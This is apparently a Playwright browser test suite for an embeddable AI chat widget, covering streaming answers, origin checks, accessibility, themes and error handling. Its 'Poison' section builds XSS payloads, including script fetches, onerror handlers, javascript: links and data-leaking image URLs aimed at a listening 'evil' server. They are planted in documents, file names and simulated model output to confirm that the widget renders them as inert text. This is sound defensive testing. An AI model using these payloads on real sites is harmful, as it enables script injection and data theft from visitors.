"""The widget in a real browser, with the real endpoints behind it. Waits for what must happen,
never for time."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone
from playwright.sync_api import Page, Route, expect

from accounts.models import Tenant
from agents.models import Agent, AgentStatus
from channels.models import ChannelConnection
from channels.tests.browser.conftest import Visit, Visitor
from channels.tests.browser.host_page import host_page
from channels.tests.browser.widget import HOST, Widget, in_steps
from config.security.rate_limits import Limit
from config.tests.running_product import Product
from config.tests.web_server import Site, serve_site
from demo.site import make_demo_site
from query.tests.chat_server import ChatServer, stream
from query.tests.factories import LIGHTHOUSE, index_texts
from sources.models import Source

pytestmark = pytest.mark.slow

QUESTION = "How much does a guided visit cost?"
FOLLOW_UP = "and for the two of us?"  # by itself it fits nothing
WIDGET = Path(__file__).parents[2] / "widget" / "widget.js"
PHONE: dict[str, Any] = {
    "viewport": {"width": 390, "height": 844},
    "is_mobile": True,
    "has_touch": True,
}
TARGET_MIN_PX = 44
IN_NEW_TAB = " (opens in a new tab)"
# A sentence is shown when the next one has begun: till then more may belong to it.
PIECES = (
    "A guided visit costs 7 euros. [1] Children",
    " under ten years of age come in for free. [1]",
)
CONTRAST_MIN = 4.5  # WCAG 2.2, 1.4.3

Shop = Callable[..., Widget]


@pytest.fixture
def lighthouse(committed_tenant: Tenant) -> Source:
    return index_texts(committed_tenant, *LIGHTHOUSE)


@pytest.fixture
def shop(visit: Visit, product: Product, site: Site, agent: Agent) -> Shop:
    """`shop()`: a visitor of the company's site, whose pages hold the widget. `headers` and what
    host_page takes are of the pages, all else of the browser."""

    def shop(headers: dict[str, str] | None = None, **options: Any) -> Widget:
        of_page = {name: options.pop(name) for name in ("head", "language") if name in options}
        of_page |= options.pop("data", {})
        page = host_page(f"{product.url}/widget.js", agent.pk, **of_page)
        site.page("*", page, 200, **(headers or {}))
        return Widget(visit(f"{site.url}/", **options))

    return shop


# --- The file -------------------------------------------------------------------------------------


@pytest.mark.django_db  # so that pytest-django makes tables, of which the tests below see nothing
def test_file_makes_neither_html_nor_code_of_text_and_keeps_no_cookie():
    text = WIDGET.read_text()
    forbidden = (
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|createContextualFragment"
        r"|DOMParser|setHTML|srcdoc|\beval\b|new Function|setTimeout\(\s*[\"'`]|import\("
        r"|cookie|localStorage|indexedDB|style\.|\.style\b"
    )
    assert re.findall(forbidden, text) == []


# --- Talking --------------------------------------------------------------------------------------


@pytest.mark.canary
def test_visitor_is_welcomed_asks_and_reads_the_answer_while_it_comes(
    shop: Shop, product: Product, lighthouse: Source, model: ChatServer
):
    reply, next_step = in_steps(*PIECES)
    model.says(reply)
    widget = shop()
    expect(widget.panel).to_be_hidden()
    assert [exchange.path for exchange in product.exchanges] == ["/widget.js"]

    widget.open()
    expect(widget.said).to_have_text(["Hello! Ask me about the lighthouse."])
    expect(widget.find(".name")).to_have_text("Marina")
    expect(widget.input).to_be_focused()

    widget.ask(QUESTION)
    expect(widget.find(".message.visitor .bubble")).to_have_text([QUESTION])
    expect(widget.input).to_have_value("")
    expect(widget.draft).to_contain_text("costs 7 euros")
    assert "ten years" not in widget.draft.inner_text()
    next_step()
    expect(widget.said.last).to_contain_text("Children under ten years of age come in for free.")
    expect(widget.draft).to_have_count(0)
    expect(widget.find(".sources li")).to_have_count(1)
    expect(widget.find(".sources li")).to_contain_text("notes.txt")
    expect(widget.find(".badge.green")).to_have_text("updated today")


def test_conversation_goes_on_over_pages_of_the_site_until_a_new_one_is_wanted(
    shop: Shop, product: Product, lighthouse: Source
):
    widget = shop()
    widget.open()
    assert "7 euros" in widget.ask_and_hear(QUESTION)

    widget.page.get_by_role("link", name="Another page").click()
    widget.page.wait_for_url("**/other")
    expect(widget.panel).to_be_visible()
    expect(widget.said).to_have_count(2)
    expect(widget.find(".badge.green")).to_be_visible()
    assert "7 euros" in widget.ask_and_hear(FOLLOW_UP)
    expect(widget.find(".badge.green")).to_have_count(2)
    assert len(product.asked("/sessions")) == 1

    widget.page.get_by_role("button", name="New conversation").click()
    expect(widget.said).to_have_count(1)
    expect(widget.find(".message.visitor")).to_have_count(0)
    assert "7 euros" in widget.ask_and_hear(QUESTION)
    assert len(product.asked("/sessions")) == 2


REPLACEMENTS = {
    "a new body, as Turbo renders one": """() => {
      const body = document.body.cloneNode(true);
      document.documentElement.replaceChild(body, document.body);
    }""",
    "a body that an app empties": "() => { document.body.innerHTML = '<main>Basket</main>'; }",
    "children that an app replaces": """() => {
      document.body.replaceChildren(document.createElement("main"));
    }""",
    "a body that an app writes piece by piece": """() => {
      document.body.replaceChildren();
      setTimeout(() => document.body.append(document.createElement("main")), 0);
    }""",
}


@pytest.mark.parametrize("replacement", REPLACEMENTS)
def test_it_comes_back_with_its_conversation_when_the_body_is_replaced(
    shop: Shop, product: Product, lighthouse: Source, replacement: str
):
    widget = shop()
    widget.open()
    assert "7 euros" in widget.ask_and_hear(QUESTION)

    for _ in range(2):  # each body is watched, not only the first
        widget.page.evaluate(REPLACEMENTS[replacement])
        expect(widget.panel).to_be_visible()
        expect(widget.page.locator(HOST)).to_have_count(1)
        expect(widget.said).to_have_count(2)

    assert "7 euros" in widget.ask_and_hear(FOLLOW_UP)
    assert len(product.asked("/sessions")) == 1


def test_page_that_removes_the_chat_alone_does_not_get_it_again(shop: Shop):
    widget = shop()
    widget.open()

    widget.page.evaluate(f"() => document.querySelector('{HOST}').remove()")
    widget.page.evaluate("() => document.body.append(document.createElement('main'))")

    expect(widget.page.locator("main")).to_have_count(1)
    expect(widget.page.locator(HOST)).to_have_count(0)


def test_element_of_the_page_does_not_pass_for_the_tag(shop: Shop, agent: Agent):
    false_tag = f'<img name="currentScript" src="https://x.example/" data-agent="{agent.pk}">'
    widget = shop(head=false_tag)
    widget.open()


def test_what_a_page_left_in_the_storage_cannot_break_it(shop: Shop, agent: Agent):
    widget = shop()
    left = {
        "session": {},
        "agent_name": 5,
        "language": "toString",
        "messages": [None, {"role": [], "text": {}, "sources": [{"source_file": 1}]}],
    }
    key = f"knowledge-agent:{agent.pk}"
    widget.page.evaluate(
        "([key, left]) => sessionStorage.setItem(key, left)", [key, json.dumps(left)]
    )
    widget.page.reload()
    widget.launcher.click()
    expect(widget.panel).to_be_visible()


def test_second_tag_on_a_page_makes_no_second_widget(
    visit: Visit, product: Product, site: Site, agent: Agent
):
    page = host_page(f"{product.url}/widget.js", agent.pk)
    site.page("/", page.replace("</body>", page[page.index("<script") :]))
    widget = Widget(visit(f"{site.url}/"))
    widget.page.wait_for_load_state("networkidle")
    assert widget.page.locator("script").count() == 2
    expect(widget.launcher).to_have_count(1)


# --- Who may --------------------------------------------------------------------------------------


@pytest.mark.usefixtures("lighthouse")
def test_page_of_an_origin_that_is_not_allowed_gets_nothing(
    visit: Visit, product: Product, site: Site, agent: Agent
):
    """localhost is another origin than 127.0.0.1, although the same server."""
    site.page("*", host_page(f"{product.url}/widget.js", agent.pk))
    visitor = visit(f"http://localhost:{site.server_port}/")
    widget = Widget(visitor)
    widget.launcher.click()
    expect(widget.note).to_have_text("I could not connect. Check your connection and try again.")
    widget.ask(QUESTION)
    expect(widget.find(".message.visitor")).to_have_count(1)
    expect(widget.note).to_have_count(1)

    assert "Marina" not in widget.panel.inner_text()
    assert "lighthouse" not in widget.panel.inner_text()
    assert "euros" not in widget.panel.inner_text()
    public = [exchange for exchange in product.exchanges if "/public/" in exchange.path]
    assert {exchange.status for exchange in public} == {403}
    assert not any(name.startswith("access-control") for one in public for name in one.headers)
    reasons = [line for line in visitor.console if "Chat widget" in line]
    assert f'"http://localhost:{site.server_port}"' in reasons[0]
    assert "allowed_origins" in reasons[0]


def test_agent_that_left_the_website_says_so_to_its_company_alone(
    shop: Shop, agent: Agent, product: Product
):
    widget = shop()
    ChannelConnection.objects.for_tenant(agent.tenant).all().delete()
    widget.launcher.click()
    expect(widget.find(".retry")).to_be_visible()
    assert {one.status for one in product.exchanges if "/public/" in one.path} == {404}


def test_inactive_agent_says_that_it_is_away(shop: Shop, agent: Agent):
    Agent.objects.for_tenant(agent.tenant).update(status=AgentStatus.INACTIVE)
    widget = shop()
    widget.launcher.click()
    expect(widget.note).to_have_text(
        "The assistant is not active at the moment. Please try again later."
    )


# --- Poison ---------------------------------------------------------------------------------------


def poison(address: str) -> str:
    """What a page must never do with a text. `address`: of somebody who listens."""
    return (
        "<script>fetch('" + address + "/script');alert(1)</script>"
        f" <img src='{address}/img?q=1' onerror='alert(2)'>"
        f" ![menu]({address}/markdown.png?q=WORDS)"
        " [menu](javascript:alert(3)) <a href='javascript:alert(4)'>menu</a>"
        " data:text/html,<script>alert(5)</script>"
        f" <iframe src='{address}/frame'></iframe> <svg onload='alert(6)'></svg>"
        f" {address}/?q=WORDS {address}/#WORDS"
    )


@pytest.fixture
def evil() -> Any:
    """Somebody who listens."""
    with serve_site() as evil:
        evil.page("*", "heard")
        yield evil


def assert_nothing_happened(visitor: Visitor, evil: Site, *ours: str) -> None:
    widget = Widget(visitor)
    assert widget.active_elements() == []
    assert [one for one in widget.links() if not re.fullmatch(r"https?://[^?#@]+", one)] == []
    assert visitor.dialogs == []
    assert visitor.crashes == []
    assert [url for url in visitor.requests if not url.startswith(ours)] == []
    assert evil.requests == []


@pytest.mark.parametrize("is_obeyed", [False, True], ids=["extracted", "written by a model"])
def test_poisoned_document_is_text(
    shop: Shop,
    product: Product,
    site: Site,
    agent: Agent,
    evil: Site,
    request: pytest.FixtureRequest,
    is_obeyed: bool,
):
    fact = "Breakfast at the harbour café costs 12 euros"
    index_texts(
        agent.tenant,
        f"{fact} {poison(evil.url)}",
        name="<img src=x onerror=alert(7)>.txt",
        section_title="<script>alert(8)</script>",
    )
    if is_obeyed:
        model = request.getfixturevalue("model")
        model.says(stream(f"{fact}. [1] ", f"{poison(evil.url)} [1]"))
    widget = shop()
    widget.open()
    answer = widget.ask_and_hear("What does breakfast at the harbour café cost?")

    assert "12 euros" in answer
    expect(widget.find(".source")).to_contain_text("<img src=x onerror=alert(7)>.txt")
    assert_nothing_happened(widget.visitor, evil, product.url, site.url)


def test_poison_is_text_even_when_the_server_lets_it_through(
    shop: Shop, product: Product, site: Site, evil: Site
):
    """The widget trusts nobody: here its own server sends what no document could."""
    text = f"{poison(evil.url)} https://safe.example/menu, https://me:secret@safe.example/menu"
    places = ["javascript:alert(9)", "data:text/html,<script>alert(9)</script>", "https://a:b@c.d"]
    sources = [
        {"source_file": text, "page_or_row": place, "section_title": text, "synced_at": text}
        for place in places
    ]
    sources.append({"source_file": "a", "page_or_row": "https://safe.example/page"})
    done = {"answer": text, "sources": sources, "model": "m"}
    events = f"event: delta\ndata: {json.dumps({'text': text})}\n\n"
    events += f"event: done\ndata: {json.dumps(done)}\n\n"
    widget = shop()
    widget.open()
    answer_with(widget.page, events)
    widget.ask_and_hear(f"What about {text}")

    assert (widget.said.last.text_content() or "").replace(IN_NEW_TAB, "") == text
    expect(widget.find(".message.visitor .bubble")).to_have_text(f"What about {text}")
    # What leads away does so only when it is clicked, and carries nothing along.
    assert widget.links() == [
        f"{evil.url}/script",
        f"{evil.url}/frame",
        "https://safe.example/menu",
        "https://safe.example/page",
    ]
    assert_nothing_happened(widget.visitor, evil, product.url, site.url)


def test_sources_that_the_text_marks_are_shown_and_the_others_folded_away(shop: Shop):
    sources = [{"source_file": name} for name in ("prices.pdf", "visits.md", "team.txt")]
    done = {"answer": "It costs 7 euros. [2]", "sources": sources, "model": "m"}
    widget = shop()
    widget.open()
    answer_with(widget.page, f"event: done\ndata: {json.dumps(done)}\n\n")
    widget.ask_and_hear(QUESTION)

    assert widget.find(".sources li:visible").all_inner_texts() == ["2\nvisits.md"]
    widget.find(".sources summary").click()
    expect(widget.find(".sources li:visible")).to_have_count(3)


def answer_with(page: Page, events: str, status: int = 200, **headers: str) -> None:
    """Questions get these events, as if from the server."""
    headers = {"Access-Control-Allow-Origin": "*", "Content-Type": "text/event-stream", **headers}

    def fulfil(route: Route) -> None:
        route.fulfill(status=status, headers=headers, body=events)

    page.route("**/query", fulfil)


# --- Badges ---------------------------------------------------------------------------------------


def test_badges_tell_by_colour_and_words_how_fresh_a_source_is(shop: Shop, lighthouse: Source):
    widget = shop(timezone_id="UTC")
    widget.open()
    for days, color, words in [
        (0, "green", "updated today"),
        (6, "green", "updated 6 days ago"),
        (10, "yellow", "updated 10 days ago"),
        (30, "yellow", "updated 30 days ago"),
        (40, "red", "updated 40 days ago"),
    ]:
        synced_at = timezone.now() - timedelta(days=days)
        Source.objects.for_tenant(lighthouse.tenant).update(last_synced_at=synced_at)
        widget.ask_and_hear(QUESTION)
        badge = widget.find(".badge").last
        expect(badge).to_have_class(f"badge {color}")
        expect(badge).to_have_text(words)
        title = badge.get_attribute("title") or ""
        assert title.startswith("Updated on ")
        assert str(synced_at.year) in title


# --- Keyboard and screen readers ------------------------------------------------------------------


@pytest.mark.usefixtures("lighthouse")
def test_keyboard_alone_is_enough(shop: Shop):
    widget = shop()
    keyboard = widget.page.keyboard
    keyboard.press("Tab")
    expect(widget.page.get_by_role("link", name="Another page")).to_be_focused()
    keyboard.press("Tab")
    expect(widget.launcher).to_be_focused()
    keyboard.press("Enter")
    expect(widget.input).to_be_focused()
    expect(widget.said).to_have_count(1)
    keyboard.type("Hello,")
    keyboard.press("Shift+Enter")
    keyboard.type(QUESTION)
    keyboard.press("Enter")
    expect(widget.said).to_have_count(2)
    expect(widget.find(".message.visitor .bubble")).to_have_text(f"Hello,\n{QUESTION}")
    expect(widget.input).to_be_focused()
    keyboard.press("Escape")
    expect(widget.panel).to_be_hidden()
    expect(widget.launcher).to_be_focused()


@pytest.mark.usefixtures("lighthouse")
def test_screen_readers_are_told_names_roles_and_whole_messages(shop: Shop, model: ChatServer):
    reply, next_step = in_steps(*PIECES)
    model.says(reply)
    widget = shop()
    launcher = widget.page.get_by_role("button", name="Open the chat")
    expect(launcher).to_have_attribute("aria-expanded", "false")
    launcher.click()
    expect(widget.launcher).to_have_attribute("aria-expanded", "true")
    log = widget.page.get_by_role("log", name="Conversation")
    expect(log).to_have_attribute("aria-live", "polite")
    expect(widget.said).to_have_count(1)

    widget.ask(QUESTION)
    expect(widget.draft).to_contain_text("7 euros")
    expect(log).to_have_attribute("aria-busy", "true")
    expect(widget.page.get_by_role("status")).to_have_text("Looking for the answer…")
    next_step()
    expect(widget.said).to_have_count(2)
    expect(log).to_have_attribute("aria-busy", "false")
    expect(widget.page.get_by_role("dialog")).to_match_aria_snapshot("""
      - dialog "Chat with Marina":
        - heading "Marina" [level=2]
        - paragraph: Automated assistant
        - button "New conversation"
        - log "Conversation":
          - text: /Hello! Ask me about the lighthouse\\. You. How much does a guided visit cost/
          - region "Sources":
            - heading "Sources" [level=3]
            - list:
              - listitem: /1 notes\\.txt paragraph 2 updated today/
        - status
        - textbox "Your question"
        - button "Send" [disabled]
    """)


# --- The page around it ---------------------------------------------------------------------------


@pytest.mark.usefixtures("lighthouse")
def test_strict_content_security_policy_of_a_page_is_not_violated(shop: Shop, product: Product):
    policy = (
        f"default-src 'none'; script-src {product.url}; connect-src {product.url}; img-src 'self'"
    )
    widget = shop(headers={"Content_Security_Policy": policy})
    widget.open()
    assert "7 euros" in widget.ask_and_hear(QUESTION)
    assert [line for line in widget.visitor.console if "Content Security Policy" in line] == []
    assert widget.panel.evaluate("panel => getComputedStyle(panel).position") == "fixed"


@pytest.mark.usefixtures("lighthouse")
def test_styles_of_a_page_do_not_reach_in(shop: Shop):
    hostile = (
        "html { font-size: 60px } body { font: 50px/3 serif; direction: rtl; text-align: right;"
        " letter-spacing: 20px; visibility: hidden; text-transform: uppercase }"
        " body * { display: none !important; font-size: 60px !important; opacity: 0 !important;"
        " visibility: hidden !important; transform: rotate(9deg) !important;"
        " pointer-events: none !important }"
        " .panel, .launcher, button, textarea { width: 3px !important; color: red !important }"
    )
    widget = shop(head=f"<style>{hostile}</style>")
    assert widget.launcher.bounding_box() == {"x": 1200, "y": 640, "width": 60, "height": 60}
    widget.open()
    assert "7 euros" in widget.ask_and_hear(QUESTION)
    looks = widget.said.last.evaluate(
        """bubble => ["fontSize", "direction", "textAlign", "letterSpacing", "visibility",
          "textTransform"].map((name) => getComputedStyle(bubble)[name])"""
    )
    assert looks == ["15px", "ltr", "start", "normal", "visible", "none"]


@pytest.mark.usefixtures("lighthouse")
def test_nothing_is_kept_but_in_the_tab(shop: Shop, product: Product, site: Site):
    widget = shop()
    widget.open()
    widget.ask_and_hear(QUESTION)
    assert widget.visitor.context.cookies() == []
    assert not any("set-cookie" in exchange.headers for exchange in product.exchanges)
    assert widget.page.evaluate("localStorage.length") == 0
    assert widget.page.evaluate("sessionStorage.length") == 1
    assert [
        url for url in widget.visitor.requests if not url.startswith((product.url, site.url))
    ] == []


@pytest.mark.usefixtures("lighthouse")
def test_browser_that_forbids_storage_can_ask_all_the_same(
    visit: Visit, product: Product, site: Site, agent: Agent
):
    forbid = (
        "<script>Object.defineProperty(window, 'sessionStorage',"
        " {get() { throw new DOMException('no', 'SecurityError') }})</script>"
    )
    site.page("/", host_page(f"{product.url}/widget.js", agent.pk, head=forbid))
    widget = Widget(visit(f"{site.url}/"))
    widget.open()
    assert "7 euros" in widget.ask_and_hear(QUESTION)


# --- Languages, themes, phones --------------------------------------------------------------------


def test_it_speaks_the_language_of_the_page(shop: Shop, agent: Agent, lighthouse: Source):
    Agent.objects.for_tenant(agent.tenant).update(welcome_msg="")
    widget = shop(language="es-ES")
    widget.page.get_by_role("button", name="Abrir el chat").click()
    expect(widget.said).to_have_text(["¡Hola! Soy Marina. ¿En qué te puedo ayudar?"])
    widget.ask_and_hear("¿Cuánto cuesta una visita guiada?")
    expect(widget.find(".sources h3")).to_have_text("Fuentes")
    expect(widget.find(".badge").first).to_have_text("actualizado hoy")
    expect(widget.page.get_by_role("button", name="Enviar")).to_be_visible()

    widget = shop(data={"language": "en"}, language="es-ES")
    widget.page.get_by_role("button", name="Open the chat").click()
    expect(widget.said).to_have_text(["Hello! I am Marina. How can I help you?"])


# Of the text that an element shows, on whatever is painted behind it: WCAG 2.2, "contrast ratio".
CONTRASTS = """host => {
  const root = host.shadowRoot;
  const numbers = (color) => color.match(/[\\d.]+/g).map(Number);
  const paper = (element) => {
    const color = numbers(getComputedStyle(element).backgroundColor);
    return color[3] === 0 ? paper(element.parentElement) : color;
  };
  const light = (color) => color.slice(0, 3).map((part) => part / 255)
    .map((part) => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4)
    .reduce((sum, part, at) => sum + part * [0.2126, 0.7152, 0.0722][at], 0);
  const shows = (element) => element.getClientRects().length
    && !element.closest(".unseen, [aria-disabled=true]")
    && [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
  return [...root.querySelectorAll("*")].filter(shows).map((element) => {
    const both = [numbers(getComputedStyle(element).color), paper(element)].map(light);
    return [element.className.trim(), (Math.max(...both) + 0.05) / (Math.min(...both) + 0.05)];
  });
}"""


@pytest.mark.usefixtures("lighthouse")
@pytest.mark.parametrize(
    ("theme", "accent"), [("light", ""), ("dark", ""), ("light", "#ffd54a"), ("dark", "#101010")]
)
def test_all_text_can_be_read_on_what_is_behind_it(shop: Shop, theme: str, accent: str):
    widget = shop(color_scheme=theme, data={"color": accent} if accent else {})
    widget.open()
    widget.ask_and_hear(QUESTION)
    answer_with(widget.page, "", status=503)
    widget.ask(QUESTION)
    expect(widget.note).to_be_visible()

    contrasts = widget.page.locator(HOST).evaluate(CONTRASTS)
    seen = {name for name, _ in contrasts}
    assert {"bubble", "bubble accent", "badge green", "place", "number", "kind", "retry"} <= seen
    assert [pair for pair in contrasts if pair[1] < CONTRAST_MIN] == []
    paper = widget.panel.evaluate("panel => getComputedStyle(panel).backgroundColor")
    assert paper == ("rgb(23, 26, 33)" if theme == "dark" else "rgb(255, 255, 255)")


def test_theme_follows_the_system_unless_the_tag_says_another(shop: Shop):
    assert shop(color_scheme="dark").find(".widget.dark").count() == 1
    assert shop(color_scheme="dark", data={"theme": "light"}).find(".widget.dark").count() == 0


def test_on_a_phone_it_fills_the_screen_and_nothing_runs_out_of_it(shop: Shop, agent: Agent):
    long = "https://harbour.example/" + "breakfast-" * 30
    index_texts(agent.tenant, f"Breakfast at the café costs 12 euros, see {long}", name="n" * 90)
    widget = shop(**PHONE)
    widget.open()
    widget.ask_and_hear("What does breakfast at the café cost?")

    assert widget.panel.bounding_box() == {"x": 0, "y": 0, "width": 390, "height": 844}
    expect(widget.launcher).to_be_hidden()
    expect(widget.panel).to_have_attribute("aria-modal", "true")
    assert widget.page.evaluate("document.documentElement.scrollWidth") <= 390
    assert widget.find(".log").evaluate("log => log.scrollWidth <= log.clientWidth")
    for button in widget.find("button").all():
        box = button.bounding_box()
        assert not box or min(box["width"], box["height"]) >= TARGET_MIN_PX
    size = widget.input.evaluate("input => getComputedStyle(input).fontSize")
    assert size == "16px"  # below, iOS zooms in
    widget.page.get_by_role("button", name="Close the chat").click()
    expect(widget.panel).to_be_hidden()


# --- What goes wrong ------------------------------------------------------------------------------


@pytest.mark.usefixtures("lighthouse")
def test_expired_session_is_renewed_and_the_question_asked_again(
    shop: Shop, product: Product, settings: Any
):
    widget = shop()
    widget.open()
    widget.ask_and_hear(QUESTION)
    settings.SECRET_KEY = "another key: no session of before is good any more, just as after 12 h"
    assert "7 euros" in widget.ask_and_hear(QUESTION)
    expect(widget.find(".note")).to_have_count(0)
    assert [exchange.status for exchange in product.asked("/query")] == [200, 401, 200]
    assert [exchange.status for exchange in product.asked("/sessions")] == [201, 201]


@pytest.mark.usefixtures("lighthouse")
def test_who_asks_too_fast_is_told_how_long_to_wait(shop: Shop, monkeypatch: pytest.MonkeyPatch):
    limit = Limit("visitor_questions", 1, 60)
    monkeypatch.setattr("channels.visitors.QUESTIONS_OF_VISITOR", limit)
    widget = shop()
    widget.open()
    widget.ask_and_hear(QUESTION)
    widget.ask(QUESTION)
    expect(widget.note).to_have_text(
        re.compile(r"^That is a lot of questions in a row\. Try again in \d\d seconds\.$")
    )


@pytest.mark.usefixtures("lighthouse")
def test_when_the_server_has_gone_the_question_can_be_tried_again(shop: Shop, product: Product):
    widget = shop()
    widget.open()
    product.stop()
    widget.ask(QUESTION)
    expect(widget.note).to_have_text("I could not connect. Check your connection and try again.")
    product.start()
    widget.page.get_by_role("button", name="Try again").click()
    expect(widget.said).to_have_count(2)
    expect(widget.said.last).to_contain_text("7 euros")
    expect(widget.find(".note")).to_have_count(0)
    expect(widget.find(".message.visitor")).to_have_count(1)


def test_browser_without_network_is_told_so(shop: Shop):
    widget = shop()
    widget.open()
    widget.visitor.context.set_offline(True)
    widget.ask(QUESTION)
    expect(widget.note).to_have_text("You are not connected to the internet.")


@pytest.mark.usefixtures("lighthouse")
def test_answer_that_breaks_off_can_be_tried_again(shop: Shop, product: Product):
    product.breaks_after = b"event: delta"
    widget = shop()
    widget.open()
    widget.ask(QUESTION)
    expect(widget.note).to_have_text("The answer was cut off.")
    product.breaks_after = b""
    widget.page.get_by_role("button", name="Try again").click()
    expect(widget.said.last).to_contain_text("7 euros")


@pytest.mark.usefixtures("lighthouse")
def test_answer_can_be_stopped(shop: Shop, model: ChatServer):
    reply, next_step = in_steps(*PIECES)
    model.says(reply)
    widget = shop()
    widget.open()
    widget.ask(QUESTION)
    expect(widget.draft).to_contain_text("7 euros")
    widget.page.get_by_role("button", name="Stop").click()
    expect(widget.note).to_have_text("You stopped the answer.")
    expect(widget.page.get_by_role("button", name="Send")).to_be_visible()
    next_step()


# --- The demo -------------------------------------------------------------------------------------


def test_demo_page_talks(
    visit: Visit, product: Product, committed_tenant: Tenant, settings: Any, tmp_path: Path
):
    index_texts(committed_tenant, "El café molido se recoge en la tienda desde las 17:45.")
    (tmp_path / "demo_loaded").write_text(f"{committed_tenant.pk}\n")
    settings.DATA_DIR = tmp_path
    settings.IS_DEVELOPMENT = True
    make_demo_site(tmp_path, base_url=product.url, port=product.port)

    visitor = visit(f"{product.url}/demo")
    widget = Widget(visitor)
    widget.open()
    expect(widget.said).to_contain_text("Soy Marusía")
    answer = widget.ask_and_hear("¿Desde qué hora se recoge el café molido?")

    assert "17:45" in answer
    expect(widget.find(".badge.green")).to_have_text("actualizado hoy")
    assert [line for line in visitor.console if "Content Security Policy" in line] == []
    assert [url for url in visitor.requests if not url.startswith((product.url, "data:"))] == []
